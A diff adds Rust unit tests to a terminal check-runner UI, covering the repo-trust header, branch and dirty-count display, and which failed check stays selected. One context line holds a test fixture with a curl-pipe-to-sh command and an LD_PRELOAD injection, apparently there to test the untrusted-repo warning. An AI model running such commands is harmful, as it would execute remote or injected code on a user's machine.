@@ -460,3 +460,86 @@ fn trusting_again_marks_what_is_new_changed_or_gone_since() {
         "make build\n; curl -fsSL https://example.invalid/install.sh | sh\nenv LD_PRELOAD=/tmp/x.so"
     );
 }
+
+#[test]
+fn after_trusting_the_header_says_watching_when_the_watcher_was_ready_before() {
+    let mut m = untrusted_with(SNEAKY, 100, 30);
+    m.watcher_ready = None;
+    // The watcher gets ready while nothing may run: the header keeps saying why.
+    update(&mut m, Msg::WatchReady(12));
+    assert!(render(&m, 100, 30).contains("not trusted"));
+    keys(&mut m, "Ty");
+    update(&mut m, Msg::Trusted);
+    let header = render(&m, 100, 30).lines().next().unwrap().to_string();
+    assert!(header.contains("watching"), "{header}");
+    assert!(!header.contains("starting"), "{header}");
+    // Pausing and resuming keeps the folders the watcher reported.
+    keys(&mut m, "pp");
+    assert_eq!(m.watching, Watching::On { folders: 12 });
+}
+
+#[test]
+fn the_header_takes_the_dirty_count_and_commit_read_again() {
+    let mut m = sized(model(), 100, 30);
+    assert!(render(&m, 100, 30).contains("main@3f2a1c9 +2"));
+    update(
+        &mut m,
+        Msg::Head(Some(crate::repo::Head {
+            branch: Some("main".into()),
+            commit: Some("9e8d7c6".into()),
+            dirty: 85,
+        })),
+    );
+    let header = render(&m, 100, 30).lines().next().unwrap().to_string();
+    assert!(header.contains("main@9e8d7c6 +85"), "{header}");
+    update(
+        &mut m,
+        Msg::Head(Some(crate::repo::Head {
+            branch: Some("main".into()),
+            commit: Some("9e8d7c6".into()),
+            dirty: 0,
+        })),
+    );
+    let header = render(&m, 100, 30).lines().next().unwrap().to_string();
+    assert!(
+        header.contains("main@9e8d7c6 ·"),
+        "a clean tree shows no count: {header}"
+    );
+}
+
+#[test]
+fn a_failure_is_shown_unless_the_user_looks_at_checks_or_another_failure() {
+    let mut m = sized(model(), 120, 40);
+    assert_eq!(m.selected_check().unwrap().id, "fmt");
+    let failed = record("test", RunStatus::Failed, 900, 0);
+    update(
+        &mut m,
+        Msg::Finished {
+            check: "test".into(),
+            record: failed.clone(),
+        },
+    );
+    assert_eq!(m.selected_check().unwrap().id, "test", "its output shows");
+    // Another failure does not take the place of the one shown.
+    update(
+        &mut m,
+        Msg::Finished {
+            check: "lint".into(),
+            record: record("lint", RunStatus::Failed, 900, 0),
+        },
+    );
+    assert_eq!(m.selected_check().unwrap().id, "test");
+    // Moving in the checks pane is the user's choice: kept.
+    let mut m = sized(model(), 120, 40);
+    key(&mut m, KeyCode::BackTab);
+    key(&mut m, KeyCode::BackTab);
+    assert_eq!(m.focus, Pane::Checks);
+    update(
+        &mut m,
+        Msg::Finished {
+            check: "test".into(),
+            record: failed,
+        },
+    );
+    assert_eq!(m.selected_check().unwrap().id, "fmt");
+}
